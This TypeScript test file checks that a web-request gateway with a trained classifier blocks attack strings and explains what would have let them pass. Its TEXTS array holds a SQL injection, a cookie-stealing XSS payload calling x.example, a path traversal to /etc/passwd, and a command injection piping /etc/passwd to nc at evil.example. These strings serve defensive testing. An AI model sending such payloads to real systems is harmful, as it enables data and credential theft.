import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { ExplainedDecision } from '#gateway/explaining/explained-decision.ts';
import { startGatewayProcess, type Running } from '#tests/helpers/gateway-process.ts';
import { approveUnseen, trainSmallModel } from '#tests/helpers/small-model.ts';
import { suiteFolder } from '#tests/helpers/temp-folder.ts';

const ADMIN_KEY = 'the admin key of these tests';
const ORDINARY_TEXT = 'a quiet word';
const TEXTS = [
  "' union select password, secret from users where '1'='1' -- ",
  '<script>document.location="http://x.example/?c="+document.cookie</script>',
  '../../../../etc/passwd',
  '; cat /etc/passwd | nc evil.example 4444'
];

type Send = (text: string, headers: Record<string, string>) => Promise<Response>;

describe('what an explanation says would have passed', () => {
  let upstream: Server;
  let gateway: Running;
  let clients = 0;

  beforeAll(async () => {
    const counts = { normalRequests: 8_000, attackRequests: 4_000 };
    const source = { kind: 'generated', counts, seed: 7 } as const;
    const options = { source, corpusTexts: 6_000, falsePositiveBudget: 0.005 };
    const { registryFolder, version } = await trainSmallModel(await suiteFolder(), options);
    await approveUnseen(registryFolder, version);
    upstream = createServer((request, response) => {
      response.writeHead(request.url!.startsWith('/missing') ? 404 : 200, { 'content-type': 'application/json' });
      request.resume().on('end', () => response.end('{"ok":true}'));
    }).listen(0, '127.0.0.1');
    await once(upstream, 'listening');
    const policyFile = join(await suiteFolder(), 'policy.yaml');
    // A small model is sure of no scan, and takes what is left of a milder one for something else.
    const never = ['scraping', 'denial-of-service', 'api-abuse', 'broken-authentication', 'credential-stuffing'];
    const classes = ['scanning: 0.02', ...never.map((name) => `${name}: 2`)].join(', ');
    await writeFile(policyFile, `thresholds: { anomaly: 2, classes: { ${classes} } }\n`);
    gateway = await startGatewayProcess([`http://127.0.0.1:${(upstream.address() as AddressInfo).port}`], {
      ...{ REGISTRY_DIR: registryFolder, MODE: 'enforce', TRUSTED_PROXIES: '127.0.0.1', ADMIN_API_KEY: ADMIN_KEY },
      ...{ DECISION_LOG: 'on', DECISION_LOG_FLUSH_MS: '50', DATA_DIR: await suiteFolder(), POLICY_FILE: policyFile }
    });
  }, 120_000);
  afterAll(async () => {
    await gateway.stop();
    upstream.close();
    upstream.closeAllConnections();
  });

  const url = (path: string): string => `http://127.0.0.1:${gateway.port}${path}`;

  /** Another client each time. */
  function newClient(): Record<string, string> {
    clients++;
    return {
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0',
      ...{ accept: 'text/html,application/json;q=0.9', 'accept-language': 'en' },
      'x-forwarded-for': `198.51.100.${clients}`
    };
  }

  async function explain(stopped: Response): Promise<ExplainedDecision> {
    const { error } = (await stopped.json()) as { error: { decisionId: string } };
    return vi.waitFor(async () => {
      const headers = { 'x-admin-api-key': ADMIN_KEY };
      const answer = await fetch(url(`/pathhelm/decisions/${error.decisionId}`), { headers });
      expect(answer.status).toBe(200);
      return (await answer.json()) as ExplainedDecision;
    }, 10_000);
  }

  const PLACES: readonly (readonly [place: string, send: Send])[] = [
    ['query.q', (text, headers) => fetch(url(`/search?page=2&q=${encodeURIComponent(text)}`), { headers })],
    [
      'json.comment',
      (text, headers) => {
        const body = JSON.stringify({ comment: text, author: 'Ann' });
        return fetch(url('/comments'), {
          method: 'POST',
          body,
          headers: { ...headers, 'content-type': 'application/json' }
        });
      }
    ],
    [
      'form.message',
      (text, headers) =>
        fetch(url('/contact'), { method: 'POST', body: new URLSearchParams({ message: text }), headers })
    ],
    ['path', (text, headers) => fetch(url(`/files/${encodeURIComponent(text)}`), { headers })]
  ];

  it.each(PLACES.flatMap(([place, send]) => TEXTS.map((text) => ({ place, text, send }))))(
    'passes when it is sent: $text in $place',
    async ({ place, text, send }) => {
      const stopped = await send(text, newClient());
      expect(stopped.status).toBe(403);
      const { decision, explanation } = await explain(stopped);
      expect(decision.matchedPlace).toBe(place);
      expect(explanation!.counterfactual!.changes.map(({ lever }) => lever)).toEqual(['text']);
      expect(explanation!.counterfactual!.said).toBe(
        `it would have passed had the value at ${place} read like ordinary text`
      );
      expect((await send(ORDINARY_TEXT, newClient())).status).toBe(200);
    }
  );

  it('passes when it is sent: a scan with as few answers 404 as it says', async () => {
    const scanned = async (headers: Record<string, string>, paths: readonly string[]): Promise<Response[]> => {
      const answers: Response[] = [];
      for (const path of paths) {
        answers.push(await fetch(url(path), { headers }));
        if (answers.at(-1)!.status === 403) break;
      }
      return answers;
    };
    const scan = Array.from({ length: 200 }, (_, at) => `/missing/${at}.php`);
    const answers = await scanned(newClient(), scan);
    const stopped = answers.at(-1)!;
    expect(stopped.status).toBe(403);
    const { explanation } = await explain(stopped);
    const changed = explanation!.counterfactual!.changes.flatMap(({ features }) => features);
    const { to } = changed.find(({ feature }) => /^client_(not_found|client_errors)_\w+_log2$/.test(feature))!;
    const missing = Math.floor(2 ** to - 1);
    expect(missing).toBeLessThan(answers.length - 1);
    const milder = scan
      .slice(0, answers.length)
      .map((path, at) => (at < answers.length - 1 - missing ? `/pages/${at % 3}` : path));
    const again = await scanned(newClient(), milder);
    expect(again).toHaveLength(milder.length);
    expect(again.at(-1)!.status).toBe(404);
  });
});
